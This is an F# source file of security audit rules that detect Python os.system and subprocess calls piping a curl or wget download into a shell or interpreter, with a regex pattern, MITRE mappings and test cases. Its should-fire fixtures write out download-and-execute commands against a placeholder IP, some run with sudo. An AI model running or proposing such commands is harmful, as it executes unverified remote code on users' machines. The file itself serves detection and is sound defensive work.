// A command downloads text and pipes it into an interpreter: nobody has seen what runs.
open AuditRules

/// `curl ... | sh` and its variants, in a command for the shell.
let pipedDownload =
    regex @"\b(curl|wget|fetch)\b[^;&]*\|\s*(sudo\s+(-\S+\s+)*)?(\S*/)?((ba|da|z|k|a)?sh|python[0-9.]*|perl)\b"

let private falsePositives =
    [ "Installation scripts of tools that are installed this way on purpose, in the build of a container." ]

let private remediation = "Download to a file, check its digest or signature, then run it."

let bySystem =
    rule (
        "AR1003",
        "os.system pipes a download into an interpreter",
        High,
        mitre = [ "T1059.004"; "T1105" ],
        tags = [ "execution" ],
        falsePositives = falsePositives,
        remediation = remediation
    ) {
        for command in Py.OsSystem.matching (command = pipedDownload) do
        message $"os.system ran: {command.Command}"
        shouldFire [ Py.OsSystem.make (command = "curl -fsSL https://198.51.100.7/i.sh | sh") ]
        shouldFire [ Py.OsSystem.make (command = "wget -qO- http://198.51.100.7/x | sudo -E /bin/bash -s") ]
        shouldNotFire [ Py.OsSystem.make (command = "curl -fsSL https://198.51.100.7/i.sh -o i.sh") ]
        shouldNotFire [ Py.OsSystem.make (command = "curl -s https://198.51.100.7/list | sort") ]
        shouldNotFire [ Py.OsSystem.make (command = "curl -s https://198.51.100.7/list; ls | sh") ]
    }

let bySubprocess =
    rule (
        "AR1004",
        "subprocess pipes a download into an interpreter",
        High,
        mitre = [ "T1059.004"; "T1105" ],
        tags = [ "execution" ],
        falsePositives = falsePositives,
        remediation = remediation
    ) {
        for command in Py.SubprocessPopen.matching (commandLine = pipedDownload) do
        message $"subprocess ran: {command.CommandLine}"
        shouldFire [ Py.SubprocessPopen.make (args = [ "/bin/sh"; "-c"; "curl http://198.51.100.7/x | python3" ]) ]
        shouldNotFire [ Py.SubprocessPopen.make (args = [ "curl"; "http://198.51.100.7/x" ]) ]
    }
